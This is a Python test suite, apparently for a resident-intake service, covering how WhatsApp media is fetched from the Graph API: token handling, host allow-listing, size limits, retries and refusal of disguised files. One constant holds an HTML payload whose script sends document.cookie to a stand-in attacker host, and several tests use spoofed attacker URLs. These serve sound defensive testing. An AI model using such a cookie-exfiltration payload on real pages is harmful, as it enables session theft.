"""Residents' media downloaded at once from the Graph API (respx stands in for it): the two steps with the
Bearer token (or the webhook's own URL), a size cap, the upload checks (a disguised file is refused and the
sender told why), temporary failures kept for the retry, and the file under a random name."""

from __future__ import annotations

import json
from datetime import timedelta

import httpx
import pytest
import respx

from intake import media, processing, tasks
from intake.models import InboundMessage, WebhookPayload
from messaging.models import Notification
from registry import clock
from tests.documents import JPEG, PDF
from tests.intake.webhook_kit import (
    payload,
    webhook_settings_fixture,  # noqa: F401
    whatsapp_number_fixture,  # noqa: F401
)

pytestmark = pytest.mark.usefixtures("webhook_settings", "frozen_now", "whatsapp_number")
GRAPH = "https://graph.facebook.com/v24.0"
CDN = "https://lookaside.fbsbx.com/whatsapp_business/attachments/"
OGG = b"OggS\x00\x02" + b"\x00" * 500
DISGUISED = b"<html><body><script>document.location='https://evil.invalid/'+document.cookie</script></body></html>"


@pytest.fixture(autouse=True)
def not_acted(monkeypatch):
    monkeypatch.setattr(processing, "message_act", lambda message: None)


def arrived(name: str) -> InboundMessage:
    row = WebhookPayload.objects.create(source="whatsapp", body=json.dumps(payload(name)))
    processing.payload_process(row.pk)
    return InboundMessage.objects.get()


def graph_routes(media_id: str, content: bytes, *, content_type: str = "image/jpeg", file_size: int | None = None):
    url = f"{CDN}?mid={media_id}&ext=1820196300&hash=ATtok"
    described = {"url": url, "mime_type": content_type, "sha256": "x", "id": media_id, "messaging_product": "whatsapp"}
    if file_size is not None:
        described["file_size"] = file_size
    meta = respx.get(f"{GRAPH}/{media_id}").mock(return_value=httpx.Response(200, json=described))
    download = respx.get(url).mock(return_value=httpx.Response(200, content=content))
    return meta, download


def fetched(message: InboundMessage) -> InboundMessage:
    media.inbound_media_fetch(message.pk)
    message.refresh_from_db()
    return message


@respx.mock
def test_an_image_is_fetched_in_two_steps_with_the_token_and_re_encoded():
    message = arrived("image")
    meta, download = graph_routes("1240091186543201", JPEG)
    message = fetched(message)
    assert meta.call_count == download.call_count == 1
    for route in (meta, download):
        assert route.calls.last.request.headers["Authorization"] == "Bearer uji-token-graph"
    assert message.media_type == "image/jpeg"
    assert message.media_error == ""
    assert message.media_file.name.startswith("inbound/")
    assert "KK" not in message.media_file.name and ".jpg" not in message.media_file.name
    stored = message.media_file.read()
    assert stored[:3] == b"\xff\xd8\xff"
    assert stored != JPEG  # decoded and encoded again, like an upload


@respx.mock
def test_the_url_the_webhook_carried_is_used_without_asking_the_graph_api():
    message = arrived("image_with_url")
    ready = respx.get(url__startswith=CDN).mock(return_value=httpx.Response(200, content=JPEG))
    meta = respx.get(f"{GRAPH}/1240091186543202").mock(return_value=httpx.Response(500))
    message = fetched(message)
    assert ready.call_count == 1
    assert ready.calls.last.request.headers["Authorization"] == "Bearer uji-token-graph"
    assert meta.call_count == 0
    assert message.media_type == "image/jpeg"


@respx.mock
def test_an_expired_webhook_url_falls_back_to_the_graph_api():
    message = arrived("image_with_url")
    expired = respx.get(url__regex=r"source=webhook").mock(return_value=httpx.Response(404))
    meta, download = graph_routes("1240091186543202", JPEG)
    message = fetched(message)
    assert (expired.call_count, meta.call_count, download.call_count) == (1, 1, 1)
    assert message.media_file


@respx.mock
def test_the_token_never_goes_to_a_host_that_is_not_meta_s():
    """A signed payload's url (or a Graph answer) pointing elsewhere is not fetched: the Bearer token would go
    with it. The webhook's url is skipped for the Graph API's; a Graph url elsewhere is not downloaded."""
    document = payload("image_with_url")
    document["entry"][0]["changes"][0]["value"]["messages"][0]["image"]["url"] = "https://evil.invalid/x.jpg"
    row = WebhookPayload.objects.create(source="whatsapp", body=json.dumps(document))
    processing.payload_process(row.pk)
    message = InboundMessage.objects.get()
    evil = respx.get(url__startswith="https://evil.invalid/").mock(return_value=httpx.Response(200, content=JPEG))
    meta, download = graph_routes("1240091186543202", JPEG)
    message = fetched(message)
    assert evil.call_count == 0
    assert (meta.call_count, download.call_count) == (1, 1)
    assert message.media_file
    assert not media.media_url_trusted("http://lookaside.fbsbx.com/x")
    assert not media.media_url_trusted("https://lookaside.fbsbx.com.evil.invalid/x")
    assert not media.media_url_trusted("https://user@evil.invalid/x")


@respx.mock
def test_a_graph_answer_pointing_elsewhere_is_not_downloaded():
    message = arrived("image")
    described = {"url": "https://evil.invalid/media?mid=1", "mime_type": "image/jpeg", "id": "1240091186543201"}
    respx.get(f"{GRAPH}/1240091186543201").mock(return_value=httpx.Response(200, json=described))
    evil = respx.get(url__startswith="https://evil.invalid/").mock(return_value=httpx.Response(200, content=JPEG))
    with pytest.raises(media.MediaTemporaryError):
        media.inbound_media_fetch(message.pk)
    message.refresh_from_db()
    assert evil.call_count == 0
    assert not message.media_file
    assert message.media_error.startswith(media.RETRYING)


@respx.mock
def test_a_pdf_document_is_stored_as_pypdf_writes_it():
    message = arrived("document")
    graph_routes("1240091186543203", PDF, content_type="application/pdf")
    message = fetched(message)
    assert message.media_type == "application/pdf"
    assert message.media_name == "surat-kehilangan.pdf"
    assert message.media_file.read() == PDF


@respx.mock
def test_a_disguised_file_is_refused_and_the_sender_told_why():
    message = arrived("document")
    graph_routes("1240091186543203", DISGUISED, content_type="application/pdf")
    assert media.inbound_media_fetch(message.pk) == "refused"
    message.refresh_from_db()
    assert not message.media_file
    assert "bukan PDF" in message.media_error
    reply = Notification.objects.get(template="reply_media_refused")
    assert reply.is_reply
    assert message.media_error in reply.text
    # Refused is final: asked again, nothing is downloaded and nobody is told twice.
    assert media.inbound_media_fetch(message.pk) == "refused"
    assert Notification.objects.filter(template="reply_media_refused").count() == 1


@respx.mock
def test_a_pdf_behind_an_html_prefix_is_refused():
    message = arrived("image")
    graph_routes("1240091186543201", b"<!doctype html>" + PDF, content_type="image/jpeg")
    assert media.inbound_media_fetch(message.pk) == "refused"
    message.refresh_from_db()
    assert message.media_error and not message.media_file


@respx.mock
def test_a_file_over_the_limit_is_refused_before_its_bytes_are_kept(settings):
    settings.ATTACHMENT_MAX_MB = 1
    message = arrived("image")
    meta, download = graph_routes("1240091186543201", JPEG, file_size=3 * 1024 * 1024)
    assert media.inbound_media_fetch(message.pk) == "refused"
    assert download.call_count == 0  # the Graph API said how large it is
    message.refresh_from_db()
    assert "1 MB" in message.media_error


@respx.mock
def test_a_download_longer_than_the_limit_is_cut_off(settings):
    settings.ATTACHMENT_MAX_MB = 1
    message = arrived("image")
    meta, download = graph_routes("1240091186543201", b"")
    chunks_sent = []

    def endless():  # chunked, no Content-Length: only counting the bytes stops it
        for _ in range(1000):
            chunks_sent.append(1)
            yield b"\xff" * 65536

    download.mock(return_value=httpx.Response(200, content=endless()))
    assert media.inbound_media_fetch(message.pk) == "refused"
    message.refresh_from_db()
    assert not message.media_file
    assert "1 MB" in message.media_error
    assert len(chunks_sent) < 40  # a little past 1 MB, not the 64 MB on offer


@respx.mock
def test_a_voice_note_is_kept_when_it_is_small_audio():
    message = arrived("audio")
    graph_routes("1240091186543204", OGG, content_type="audio/ogg")
    message = fetched(message)
    assert message.media_type == "audio/ogg"
    assert message.media_file.read() == OGG


@respx.mock
@pytest.mark.parametrize(
    ("content", "limit_mb", "reason"),
    [(DISGUISED, 2, "bukan rekaman suara"), (OGG + b"\x00" * (1024 * 1024), 1, "1 MB")],
    ids=["not-audio", "too-large"],
)
def test_a_voice_note_that_is_not_audio_or_too_large_is_refused(settings, content, limit_mb, reason):
    settings.INBOUND_AUDIO_MAX_MB = limit_mb
    message = arrived("audio")
    graph_routes("1240091186543204", content, content_type="audio/ogg")
    assert media.inbound_media_fetch(message.pk) == "refused"
    message.refresh_from_db()
    assert reason in message.media_error


@respx.mock
@pytest.mark.parametrize("status", [401, 429, 500, 503])
def test_a_temporary_failure_is_kept_for_the_retry_and_a_later_try_succeeds(status):
    message = arrived("image")
    respx.get(f"{GRAPH}/1240091186543201").mock(return_value=httpx.Response(status))
    with pytest.raises(media.MediaTemporaryError):
        media.inbound_media_fetch(message.pk)
    message.refresh_from_db()
    assert message.media_error.startswith(media.RETRYING)
    assert str(status) in message.media_error
    assert not Notification.objects.filter(template="reply_media_refused").exists()

    respx.reset()
    graph_routes("1240091186543201", JPEG)
    message = fetched(message)
    assert message.media_file
    assert message.media_error == ""


@respx.mock
def test_a_network_failure_is_temporary():
    message = arrived("image")
    respx.get(f"{GRAPH}/1240091186543201").mock(side_effect=httpx.ConnectTimeout("timed out"))
    assert tasks.media_fetch(message.pk) == "retry later"
    message.refresh_from_db()
    assert message.media_error.startswith(media.RETRYING)


@respx.mock
def test_a_media_id_the_graph_api_no_longer_knows_is_refused():
    message = arrived("image")
    respx.get(f"{GRAPH}/1240091186543201").mock(return_value=httpx.Response(404, json={"error": {"code": 100}}))
    assert media.inbound_media_fetch(message.pk) == "refused"
    message.refresh_from_db()
    assert "404" in message.media_error


@respx.mock
def test_fetching_again_after_success_downloads_nothing():
    message = arrived("image")
    meta, download = graph_routes("1240091186543201", JPEG)
    fetched(message)
    assert media.inbound_media_fetch(message.pk) == "done"
    assert meta.call_count == 1


@respx.mock
def test_an_id_older_than_seven_days_is_not_asked_for(frozen_now):
    message = arrived("image")
    InboundMessage.objects.filter(pk=message.pk).update(received_at=clock.now() - timedelta(days=8))
    meta, download = graph_routes("1240091186543201", JPEG)
    assert media.inbound_media_fetch(message.pk) == "expired"
    assert meta.call_count == 0
    message.refresh_from_db()
    assert "kedaluwarsa" in message.media_error


@respx.mock
def test_processing_a_payload_starts_the_download_of_its_media(monkeypatch):
    monkeypatch.setattr(tasks.media_fetch, "apply_async", lambda args, **kw: tasks.media_fetch(*args))
    graph_routes("1240091186543201", JPEG)
    row = WebhookPayload.objects.create(source="whatsapp", body=json.dumps(payload("image")))
    assert tasks.process_payload(row.pk) == WebhookPayload.Status.PROCESSED
    message = InboundMessage.objects.get()
    assert message.media_file
    assert message.media_type == "image/jpeg"
